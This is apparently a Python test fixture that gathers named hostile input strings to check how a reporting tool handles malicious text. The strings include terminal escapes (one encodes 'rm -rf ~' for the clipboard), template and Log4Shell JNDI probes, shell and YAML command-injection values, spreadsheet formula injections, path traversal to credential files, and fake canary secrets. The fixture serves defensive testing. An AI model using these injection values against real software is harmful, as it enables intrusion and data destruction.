"""Texts that want to be more than text. Each has a name, so that a red run says which one it was."""

from __future__ import annotations

from tests.report.hostile import HOSTILE as MARKUP

ESC, CSI, OSC, ST, BEL = "\x1b", "\x1b[", "\x1b]", "\x1b\\", "\x07"


def _named(kind: str, texts: list[str]) -> dict[str, str]:
    return {f"{kind}-{number:02}": text for number, text in enumerate(texts, 1)}


CONTROL = {f"control-{code:04x}": f"before{chr(code)}after" for code in (*range(9), *range(11, 32), *range(127, 160))}
"""Every control character but newline and tab."""

HIDDEN = {
    f"hidden-{code:04x}": f"pay{chr(code)}load"
    for code in (
        *(0x115F, 0x1160, 0x180E, 0x200B, 0x2028, 0x2029, *range(0x202A, 0x202F), *range(0x2060, 0x2065)),
        *(*range(0x2066, 0x2070), 0x3164, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFA, 0xFFFB, 0xFFFE, 0xFFFF, 0xFDD0),
        *(0xD800, 0xDFFF, 0xE0001, 0xE0041, 0xE007F),
    )
}
"""What draws nothing, turns the direction of text, or is no character at all."""

TERMINAL = _named(
    "terminal",
    [
        f"{CSI}2J{CSI}H",
        f"{CSI}31;5mred{CSI}0m",
        f"{OSC}52;c;cm0gLXJmIH4=\x07",
        f"{OSC}52;c;cm0gLXJmIH4={ST}",
        f"{OSC}8;;http://evil.example{ST}click{OSC}8;;{ST}",
        f"{OSC}0;title{BEL}",
        f"{OSC}1337;File=inline=1:AAAA{BEL}",
        f'{ESC}P$q"p{ST}',
        f"{ESC}_Ga=T;AAAA{ST}",
        f"{ESC}^private{ST}",
        f"{ESC}c",
        f"{ESC}(0lqk",
        f"{CSI}6n",
        f"{CSI}?1049h",
        f"{CSI}21t",
        "\x9b2J",
        "\x9d52;c;cm0=\x9c",
        "\x90$q\x9c",
        "\x08" * 40 + "overwritten",
        "first\rsecond",
        "\x0e\x0f",
        "\\x1b[2J \\033[2J \\e[2J ^[[2J \\u001b[2J",
        "%1b%5b2J &#27;[2J",
    ],
)
"""Terminal escapes in every spelling; the last are only spelt, and stay what they are."""

MARKUPS = _named("markup", MARKUP)

CONSOLE = _named(
    "console",
    [
        "[/]",
        "[bold]x[/bold]",
        "[@click=app.bell]x[/]",
        "[link=http://evil.example]x[/link]",
        "[ERROR] disk [x=1] [team-a]",
        "[[",
        "]]",
        "\\[",
        "[red",
        ":boom: :sparkles:",
    ],
)
"""The console's own markup."""

TEMPLATES = _named(
    "template",
    [
        "{{7*7}}",
        "{0.__class__.__mro__}",
        "{complainant.__class__}",
        "%(x)s %s %n",
        "${jndi:ldap://evil.example/a}",
        "$(touch /tmp/drill-was-here)",
        "`touch /tmp/drill-was-here`",
        "; touch /tmp/drill-was-here #",
        "__import__('os').system('touch /tmp/drill-was-here')",
        "!!python/object/apply:os.system ['touch /tmp/drill-was-here']",
        "<%= system('id') %>",
        "{% include '/etc/passwd' %}",
    ],
)

FORMULAS = _named(
    "formula",
    [
        "=cmd|'/c calc'!A1",
        "+1+cmd|'/c calc'!A1",
        "-2+3+cmd|'/c calc'!A1",
        "@SUM(1+1)*cmd|'/c calc'!A1",
        "\t=1+1",
        '=HYPERLINK("http://evil.example","x")',
        " =1+1",
        "＝1+1",
        '","=1+1","',
    ],
)

YAML = _named(
    "yaml",
    [
        "*anchor",
        "&anchor x",
        "<<: *base",
        "!!binary x",
        "- a\n- b",
        "key: value: more",
        "---\nplan: other",
        "...",
        "? complex",
        "'single \" double",
        "| literal\n  text",
        "yes",
        "null",
        "~",
        "0x1F",
        "1e3",
        ".inf",
        ".nan",
        "2026-01-01",
        "12:30:45",
        "0o17",
        "# a comment",
        "%YAML 1.1",
        "{a: b}",
        "[a, b]",
    ],
)
"""What YAML, front matter and numbers trip over."""

NUMBERS = _named("number", ["9" * 400, "-" + "9" * 30, "1e999", "NaN", "Infinity", "-0", "٣٤", "½", "0" * 60])

SHAPES = _named(
    "shape",
    [
        "w" * 10_000,
        "word " * 2_000,
        "漢字" * 200,
        "é́̂̃̄̅" * 50,
        "z" + "\u0301" * 300,
        "👩‍👩‍👧‍👦" * 30,
        "🏳️‍🌈🇩🇪1️⃣",
        "אבג דהו",
        "مرحبا بالعالم",
        "\u200e\u200fmarks",
        "ﷺ" * 20,
        "ｆｕｌｌｗｉｄｔｈ",
        "İıẞﬁ",
        " leading and trailing ",
        "\u00a0\u2003\u3000",
        "tab\tin\ttext",
        "line\n\n\nline",
        "\n",
        "a" + "\n" * 200 + "b",
    ],
)
"""Long, wide, joined, turned."""

LOOKALIKES = _named(
    "lookalike", ["blսe", "соntrol", "contro1", "Control", "CONTROL", "leаd", "lead\u200d", "ｌead", "l-ead", "lead-"]
)
"""Names that look like others."""

GRAMMAR = _named(
    "grammar",
    [
        " : a second note",
        "control end",
        "T+00:00:00 control end",
        "blue lead does stop",
        "#1 #99999999 #0",
        "\\n\\\\n\\",
        "on @one about news with text edited",
        ", , ,",
        "{id: x",
        "}",
        "{title: 'it''s'}",
        "~5m",
        "-2m",
        "all",
        "observes",
        "satisfies",
        "by",
        "to",
    ],
)
"""Words of the transcript's own grammar."""

PATHS = _named(
    "path",
    [
        "../../etc/passwd",
        "..\\..\\windows",
        "/etc/passwd",
        "~/.ssh/id_rsa",
        "file:///etc/passwd",
        "C:\\Windows\\win.ini",
        "\\\\server\\share",
        "CON",
        "NUL",
        "aux.txt",
        "COM1",
        "lpt1.yaml",
        "a/../../b",
        "....//....//x",
        "x\x00.yaml",
        "x" * 300,
        ".",
        "..",
        "-rf",
        "--help",
        "plan.yaml/",
        "/dev/zero",
        "/dev/stdin",
        "/proc/self/environ",
        " ",
    ],
)
"""Paths and file names that lead elsewhere."""

SECRETS = _named(
    "secret",
    [
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_" + "a1B2" * 9,
        "glpat-" + "abcdEFGH12345678",
        "xoxb-1234567890-abcdef",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl",
        "AIza" + "B" * 35,
        "sk_live_" + "a" * 24,
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
        "the password is S3cret-c4nary",
        "password=S3cret-c4nary",
        "new token: S3cret-c4nary, tell nobody",
    ],
)

WHOLE_SECRETS = (
    "S3cret-c4nary",
    *(text.splitlines()[-1] for text in list(SECRETS.values())[:7]),
    "b3BlbnNzaC1rZXktdjE",
)
"""What of them must stand nowhere."""

TEXTS: dict[str, str] = (
    CONTROL | HIDDEN | TERMINAL | MARKUPS | CONSOLE | TEMPLATES | FORMULAS | YAML | NUMBERS | SHAPES | LOOKALIKES
    | GRAMMAR | PATHS | SECRETS
)  # fmt: skip
"""All of them, by name."""
